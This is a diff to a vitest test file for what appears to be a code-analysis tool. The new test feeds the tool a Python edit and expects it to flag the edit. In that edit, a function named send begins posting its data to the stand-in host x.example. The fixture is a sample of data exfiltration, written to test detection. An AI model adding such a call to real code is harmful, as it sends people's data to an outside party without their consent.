@@ -2,6 +2,9 @@ import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { describe, expect, test } from 'vitest';
+import type { Texts } from '../../server/src/core/ingest.ts';
+import type { GrammarFiles } from '../../server/src/core/load-language.ts';
+import type { ReviewResult } from '../../server/src/core/model/result.ts';
 import { loadPoisonedCore, verbsEntry } from './poisoned-core.ts';
 
 /** A core of our own, to see that the poison works. */
@@ -56,4 +59,44 @@ describe('the core', () => {
     // web-tree-sitter's own, behind its question whether this is Node.
     expect(['fs/promises', 'module']).toEqual(expect.arrayContaining([...externals]));
   });
+
+  test('analyses an edit poisoned', async () => {
+    const { verbs, toBytes, evaluate } = await loadPoisonedCore(verbsEntry);
+    const modules = path.resolve(import.meta.dirname, '../../node_modules');
+    const grammars = path.resolve(import.meta.dirname, '../../grammars');
+    const read = (file: string) => Promise.resolve(toBytes(fs.readFileSync(file)));
+    const reviewTexts = evaluate(analyseTexts) as (
+      core: unknown,
+      files: GrammarFiles,
+      texts: Texts,
+    ) => Promise<ReviewResult>;
+    const result = await reviewTexts(
+      verbs,
+      {
+        runtime: () => read(path.join(modules, 'web-tree-sitter/web-tree-sitter.wasm')),
+        grammar: (name) => read(path.join(modules, `tree-sitter-wasm/out/${name}/tree-sitter-${name}.wasm`)),
+        facts: (id) => Promise.resolve(fs.readFileSync(path.join(grammars, id, 'facts.scm'), 'utf8')),
+      },
+      {
+        before: { 'a.py': 'import requests\n\n\ndef send(data):\n    return data\n' },
+        after: {
+          'a.py':
+            'import requests\n\n\ndef send(data):\n    requests.post("https://x.example", json=data)\n    return data\n',
+        },
+      },
+    );
+    expect(result.failures).toEqual([]);
+    expect(result.findings.map(({ message }) => message)).toContain('Connects to x.example.');
+  });
 });
+
+/** Runs inside, on the verbs as they were bundled. */
+const analyseTexts = `(async (core, files, texts) => {
+  const engine = core.createEngine(files);
+  const policy = core.loadPolicy({ packs: {}, repository: null }).value;
+  const origin = { kind: 'unknown', channel: 'ndjson', held: false, claimedBy: 'test' };
+  const { changeSet } = core.ingestTexts(texts, origin);
+  const cancel = { isCancelled: () => false, pause: () => Promise.resolve() };
+  const cache = { get: () => undefined, set: () => {} };
+  return (await core.analyze(changeSet, { engine, policy, files: new Map(), cache, cancel })).result;
+})`;
